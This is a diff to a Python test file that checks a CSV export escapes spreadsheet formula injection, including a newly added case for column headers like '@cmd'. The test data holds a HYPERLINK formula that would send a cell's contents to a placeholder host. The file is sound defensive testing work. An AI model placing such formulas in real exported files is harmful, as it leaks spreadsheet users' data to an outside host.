@@ -132,6 +132,8 @@ def test_csv_download_defuses_formulas() -> None:
     assert data_csv(rows, ["a", "b"]) == (
         'a,b\n"\'=HYPERLINK(""http://x?""&A1)",-3\n\'@SUM(1),2.5\n'
     )
+    # A column's name is a cell too: it was written as it was.
+    assert data_csv([{"@cmd": 1}], ["@cmd"]) == "'@cmd\n1\n"
 
 
 def test_csv_download_writes_a_column_of_dates_as_dates() -> None:
